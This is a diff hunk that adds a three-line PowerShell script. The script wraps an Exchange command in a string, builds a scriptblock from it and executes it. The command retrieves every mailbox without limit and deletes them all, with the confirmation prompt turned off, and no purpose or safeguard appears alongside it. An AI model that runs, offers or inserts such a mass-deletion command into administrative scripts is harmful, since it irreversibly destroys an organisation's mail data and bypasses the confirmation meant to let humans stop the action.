@@ -1,0 +1,3 @@
+$text = "Get-Mailbox -ResultSize Unlimited | Remove-Mailbox -Confirm:`$false"
+$block = [scriptblock]::Create($text)
+& $block
